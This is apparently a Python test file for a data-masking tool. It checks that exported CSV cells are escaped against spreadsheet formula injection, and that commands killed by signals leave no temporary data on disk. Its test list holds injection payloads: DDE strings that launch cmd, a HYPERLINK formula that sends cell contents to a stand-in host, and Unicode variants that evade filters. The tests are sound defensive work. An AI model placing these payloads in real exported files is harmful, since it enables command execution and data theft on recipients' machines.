"""What a customer's name does in a partner's spreadsheet, and what a command that is ended leaves on disk."""

from __future__ import annotations

import csv
import os
import re
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from client.audience import Audience
from client.masking import outputs, tables
from client.results import write_people
from client.sheets import NUMBER, ROUGHLY, SUSPECT, plain, quoted
from client.spill import DiskSpool
from privacy.identifiers import platforms
from tests.client.masking.conftest import POLICY
from tests.conftest import ROOT
from tests.postgres import load

FORMULAS = [
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|x!A0",
    '=HYPERLINK("http://x/?"&A1)', "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋cmd", "－cmd", "＠SUM(1)",
    "Ann;=cmd|x!A0", "Ann\t=1+1", "Ann|@x", "Ann\n=1+1", "Ann\r\n-1+cmd", "=", "'=1", "''=1", "-1+1",
    "+1-1", "-1e5x", "+4a", "+1-312-753-0189", "+1 312-753-0189", " =x", "\u00a0=1+1", "\ufeff=1+1",
    "\x00=1+1", "\u200b@x", "\u3000＝1+1", "\x0b-1+x", "﹦1+1", "﹢cmd", "﹣cmd", "﹫SUM(1)", "Ann; =1+1",
    "Ann\n\u2060+cmd", "' =1", " \t=1", "\U000e0020=1", "\u2028=1",
]  # fmt: skip
HARMLESS = ["", "Ann", "-5", "+4.2", "-1,5", "-1e-5", "+8613812345678", "+1 312 753 0189", "a=b", "a-b",
            "x@example.com", "'tis", "12", "Ann; Bob", "(=)", " Ann", " -5"]  # fmt: skip
TRIMMED = r"[\s\x00-\x1f\u00ad\u200b-\u200f\u2060\ufeff\U000e0020]*"
DANGER = re.compile(rf"^(?:{TRIMMED}[=+\-@＝＋－＠﹦﹢﹣﹫]|[\t\r\n])")


def cells_as_split(text: str) -> Iterator[str]:
    """The cells that a program makes of a line's part, whatever it splits at."""
    for line in re.split(r"[\r\n]", text):
        yield line
        for separator in ";\t|":
            yield from line.split(separator)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_a_formula_however_the_line_is_split(text: str) -> None:
    made = quoted(text)
    assert not [
        cell
        for cell in cells_as_split(made)
        if re.match(TRIMMED + r"[=+\-@＝＋－＠﹦﹢﹣﹫]", cell)
    ]
    assert not DANGER.match(made)
    assert plain(made) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert quoted(text) == text


@given(st.text("'=+-@;|\t\r\n,\"a1.e＝﹦ \u00a0\ufeff\x00", max_size=8))
def test_every_text_comes_back(text: str) -> None:
    made = quoted(text)
    assert plain(made) == text
    if made != text:  # what polars looks for finds it
        assert pl.Series([text]).str.contains(SUSPECT)[0]
        assert pl.Series([text]).str.contains(ROUGHLY)[0]
        assert not pl.Series([text]).str.contains(NUMBER)[0]


def rows_of(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_tables_are_written_for_spreadsheets_and_read_back(tmp_path: Path) -> None:
    texts = [*FORMULAS, *filter(None, HARMLESS)]
    frame = pl.DataFrame({"=name": texts, "n": range(-3, len(texts) - 3)})
    with outputs.created(tmp_path / "t.csv", None, None) as writer:
        writer.write(frame)
        writer.write(frame)
    rows = rows_of(tmp_path / "t.csv")
    assert rows[0] == ["'=name", "n"]
    assert [row[0] for row in rows[1:]] == 2 * [quoted(text) for text in texts]
    assert [row[1] for row in rows[1:4]] == ["-3", "-2", "-1"]
    back = pl.concat(list(tables.opened(tmp_path / "t.csv", quoted=True).blocks()))
    assert back["=name"].to_list() == 2 * texts
    some = tables.opened(tmp_path / "t.csv", quoted=True)
    assert some.head(1, ["=name"])["=name"].to_list() == texts[:1]
    with outputs.created(tmp_path / "m.csv", None, None, as_is=True) as writer:
        writer.write(frame)
    assert [row[0] for row in rows_of(tmp_path / "m.csv")] == ["=name", *texts]


def test_match_lists_are_written_for_spreadsheets(tmp_path: Path) -> None:
    with DiskSpool(tmp_path / "s", bytes(32), os.urandom) as spool:
        spool.log("people").append(b'["=cmd|x!A0", "C2", "@x", "-7"]')
        audience, all_of_them = Audience(spool, ()), pl.Series([True] * 4).to_numpy()
        write_people(tmp_path / "list.csv", audience, all_of_them)
        write_people(tmp_path / "raw.csv", audience, all_of_them, as_is=True)
    assert [row[0] for row in rows_of(tmp_path / "list.csv")] == [
        "person",
        "'=cmd|x!A0",
        "C2",
        "'@x",
        "-7",
    ]
    assert [row[0] for row in rows_of(tmp_path / "raw.csv")] == [
        "person",
        "=cmd|x!A0",
        "C2",
        "@x",
        "-7",
    ]


@pytest.mark.parametrize("platform", sorted(platforms.PROFILES))
def test_no_cell_of_an_upload_begins_a_formula(platform: str) -> None:
    """Digests, and in the clear only what looks like a country, a postal code or a device."""
    wanted = platforms.profile(platform)
    texts = pl.Series([*FORMULAS, "10115", "SW1A 1AA", "DE", "12345-6789"])
    for field, (heading, _) in wanted.fields.items():
        assert not DANGER.match(heading)
        made = platforms.prepared(platform, field, texts, "DE").drop_nulls()
        assert not [cell for cell in made if DANGER.match(cell)]
    if platform == "google":
        made = platforms.prepared(platform, "postal_code", texts, "DE").to_list()
        assert made[-4:] == ["10115", "SW1A 1AA", "DE", "12345-6789"]
        assert made[:-4] == [None] * len(FORMULAS)


def test_a_masked_table_goes_through_every_command(tmp_path: Path) -> None:
    """Masked for a join as CSV, retokened, turned back: what was a formula is text in each file, and comes
    back as it was where no spreadsheet is meant."""
    (tmp_path / "policy.toml").write_text(
        'version = 1\nname = "p"\nkey = "file:m.key"\n'
        '[columns."=city"]\nkind = "category"\nrole = "quasi"\npartner_join = "keep"\n'
        '[columns.mobile]\nkind = "phone"\nrole = "direct"\npartner_join = "token"\n'
    )
    (tmp_path / "c.csv").write_text('=city,mobile\n"@SUM(1)",13912345678\n-x,13912345679\n')
    policy = ["--policy", "policy.toml"]
    line = ran(tmp_path, "keys", "new", "file:m.key")
    ran(tmp_path, "mask", "c.csv", *policy, "--purpose", "partner_join", "--out", "j.csv")
    assert [row[0] for row in rows_of(tmp_path / "j.csv")] == ["'=city", "'@SUM(1)", "'-x"]
    ran(tmp_path, "keys", "rotate", "file:m.key")
    ran(
        tmp_path, "keys", "retoken", "j.csv", *policy, "--purpose", "partner_join", "--out", "k.csv"
    )
    assert [row[0] for row in rows_of(tmp_path / "k.csv")] == ["'=city", "'@SUM(1)", "'-x"]
    ran(tmp_path, "init", "me", "--home", "me")
    line = ran(tmp_path, "reveal", "new-approver", "boss", "--out", "boss.key").splitlines()[-1]
    with (tmp_path / "me" / "partner.toml").open("a") as file:
        file.write(f"\n[masking.approvers]\n{line}\n")
    ran(tmp_path, "reveal", "ask", "k.csv", *policy, "--column", "mobile", "--reason", "ticket 4711",
        "--out", "r.toml", "--home", "me")  # fmt: skip
    ran(tmp_path, "reveal", "approve", "r.toml", "--name", "boss", "--key", "boss.key", "--yes")
    ran(tmp_path, "reveal", "open", "k.csv", "--request", "r.toml", *policy, "--out", "b.parquet",
        "--home", "me")  # fmt: skip
    back = pl.read_parquet(tmp_path / "b.parquet")
    assert back["=city"].to_list() == ["@SUM(1)", "-x"]
    assert back["mobile"].to_list() == ["+8613912345678", "+8613912345679"]


def ran(place: Path, *arguments: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "client.cli", *arguments], cwd=place,
        env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return done.stdout


# ---------------------------------------------------------------------- ended in the middle

ROWS = 400_000
CHILD = """
import sys
from pathlib import Path
from client.masking import run, tables
from privacy.masking import risk
how, *sys.argv[1:] = sys.argv[1:]
real, measure = tables.Table.blocks, risk.measure
def blocks(self, *given, **more):
    for block in real(self, *given, **more):
        yield block
        print("block", flush=True)
def measured(*given):
    print("measure", flush=True)
    return measure(*given)
tables.Table.blocks, risk.measure = blocks, measured
if how == "planted":
    run.nameless = lambda folder: (folder / "columns.parquet").open("w+b")
from client.cli import main
main()
"""
COMMANDS = {
    "risk": ("risk", "t.parquet", "--policy", "p.toml"),
    "quality": ("quality", "t.parquet", "--policy", "p.toml"),
    "scan": ("scan", "t.parquet", "--masked"),
    "dedupe": ("dedupe", "t.parquet", "--policy", "p.toml", "--out", "out/o.csv"),
    "display": (
        "mask",
        "t.parquet",
        "--policy",
        "p.toml",
        "--purpose",
        "display",
        "--out",
        "out/o.csv",
    ),
    "release": (
        "mask",
        "t.parquet",
        "--policy",
        "p.toml",
        "--purpose",
        "release",
        "--out",
        "out/o.parquet",
    ),
}
MOMENTS = [
    ("risk", "block", 2), ("risk", "measure", 1), ("risk", "measure", 2), ("quality", "block", 2),
    ("scan", "block", 2), ("dedupe", "block", 2), ("display", "block", 2), ("release", "block", 2),
    ("release", "measure", 1),
]  # fmt: skip


@pytest.fixture(scope="module")
def table(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("table") / "t.parquet"
    number = pl.int_range(ROWS, eager=True)
    text = number.cast(pl.String)
    pl.DataFrame({
        "id": "CUSTOMER-" + text, "name": "张三", "phone": "139" + text.str.zfill(8),
        "email": "secret.person" + text + "@example.com", "id_card": "", "note": "n" + text,
        "birth_date": "19" + (number % 90 + 10).cast(pl.String) + "-01-01",
        "city": (number % 997).cast(pl.String), "amount": number % 1000, "updated": "2026-01-01",
    }).write_parquet(path)  # fmt: skip
    return path


@contextmanager
def running(
    place: Path, table: Path, how: str, command: Sequence[str], **more: str
) -> Iterator[subprocess.Popen[str]]:
    """The command in a folder of its own, with another for temporary files and one for its output."""
    for folder in ("tmp", "out"):
        (place / folder).mkdir()
    (place / "t.parquet").symlink_to(table)
    policy = POLICY.replace('key = "file:masking.key"\n', "")
    for keyed in ("hmac", "token", "ff1"):
        policy = policy.replace(f'"{keyed}"', '"suppress"')
    (place / "p.toml").write_text(policy)
    environment = {**os.environ, "TMPDIR": str(place / "tmp"), "PYTHONPATH": str(ROOT), **more}
    child = subprocess.Popen(
        [sys.executable, "-c", CHILD, how, *command], cwd=place, env=environment,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        yield child
    finally:
        child.kill()
        child.communicate()


def files(place: Path) -> set[str]:
    return {path.name for path in place.rglob("*") if path.is_file() and not path.is_symlink()}


def until(child: subprocess.Popen[str], moment: str, count: int) -> None:
    for line in child.stdout or ():
        count -= line.strip() == moment
        if not count:
            time.sleep(0.02)  # into the middle of what follows
            return
    raise AssertionError((child.stderr or sys.stdin).read())


@pytest.mark.slow
@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM, signal.SIGHUP])
@pytest.mark.parametrize(("name", "moment", "count"), MOMENTS)
def test_a_command_that_is_ended_leaves_nothing(
    tmp_path: Path, table: Path, name: str, moment: str, count: int, number: signal.Signals
) -> None:
    with running(tmp_path, table, "", COMMANDS[name]) as child:
        until(child, moment, count)
        child.send_signal(number)
        code = child.wait(60)
        said = (child.stderr or sys.stdin).read()
    assert code == (-9 if number == signal.SIGKILL else 128 + number), said
    assert "Traceback" not in said
    assert files(tmp_path) == {"p.toml"}


@pytest.mark.slow
@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM])
def test_a_copy_of_a_database_is_gone_too(
    tmp_path: Path, table: Path, postgres: str, number: signal.Signals
) -> None:
    text = tmp_path / "people.csv"
    frame = pl.read_parquet(table).select("id", "phone", "email")
    frame.write_csv(text)
    load(postgres, f"people{number}", text, "id text, phone text, email text")
    text.unlink()
    command = ("scan", postgres, "--table", f"people{number}", "--masked")
    with running(tmp_path, table, "", command) as child:
        until(child, "block", 1)
        child.send_signal(number)
        assert child.wait(60) in (-9, 128 + number)
    assert files(tmp_path) == {"p.toml"}


@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM])
def test_risk_that_is_ended_leaves_no_columns(
    tmp_path: Path, table: Path, number: signal.Signals
) -> None:
    test_a_command_that_is_ended_leaves_nothing(tmp_path, table, "risk", "measure", 1, number)


def test_columns_in_a_file_with_a_name_would_be_found(tmp_path: Path, table: Path) -> None:
    with running(tmp_path, table, "planted", COMMANDS["risk"]) as child:
        until(child, "measure", 1)
        child.send_signal(signal.SIGKILL)
        child.wait(60)
    assert files(tmp_path) == {"p.toml", "columns.parquet"}


@pytest.mark.parametrize("planted", [False, True])
def test_what_does_not_fit_into_memory_is_not_spilled(
    tmp_path: Path, table: Path, planted: bool
) -> None:
    """polars writes rows that it cannot hold into a folder of its own, in the clear, and says nothing."""
    spill, seen = tmp_path / "spill", set[str]()
    more = {"POLARS_OOC_SPILL_DIR": str(spill), "POLARS_OOC_MEMORY_BUDGET_MB": "1",
            "POLARS_OOC_SPILL_MIN_BYTES": "1"}  # fmt: skip
    code = "import os, polars as pl, sys\nimport client\n"
    if planted:
        code += "del os.environ['POLARS_OOC_DISK_BUDGET_MB']\n"
    code = code.replace("polars as pl, ", "") + (
        "import polars as pl\n"
        "frame = pl.scan_parquet(sys.argv[1])\n"
        "print(frame.group_by('id').agg(pl.col('email').n_unique()).sort('id').collect().shape)\n"
    )
    child = subprocess.Popen(
        [sys.executable, "-c", code, str(table)], env={**os.environ, "PYTHONPATH": str(ROOT), **more},
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
    )  # fmt: skip
    over = threading.Event()

    def watch() -> None:
        while not over.wait(0.001):
            seen.update(path.name for path in spill.rglob("*") if path.suffix)

    looking = threading.Thread(target=watch)
    looking.start()
    said, _ = child.communicate(timeout=60)
    over.set()
    looking.join()
    if planted:
        assert seen
        assert f"({ROWS}" in said
    else:
        assert not seen
        assert said == ""  # it ends with an error instead


def test_what_was_told_to_be_ignored_stays_ignored(tmp_path: Path) -> None:
    """``nohup`` keeps a command alive when its terminal goes."""
    code = (
        "import os, signal\nfrom protos import console\n"
        "signal.signal(signal.SIGHUP, signal.SIG_IGN)\n"
        "app = console.new_app('x')\n"
        "@app.command()\ndef one(): os.kill(os.getpid(), signal.SIGHUP); print('goes on')\n"
        "@app.command()\ndef two():\n"
        "  try: os.kill(os.getpid(), signal.SIGTERM)\n"
        "  finally: os.kill(os.getpid(), signal.SIGTERM); print('cleaned up')\n"
        "console.entry(app)()\n"
    )
    run: Callable[[str], subprocess.CompletedProcess[str]] = lambda name: subprocess.run(  # noqa: E731
        [sys.executable, "-c", code, name], env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert (run("one").returncode, run("one").stdout) == (0, "goes on\n")
    ended = run("two")
    assert (ended.returncode, ended.stdout) == (143, "cleaned up\n")
    assert ended.stderr == "ended by a signal\n"
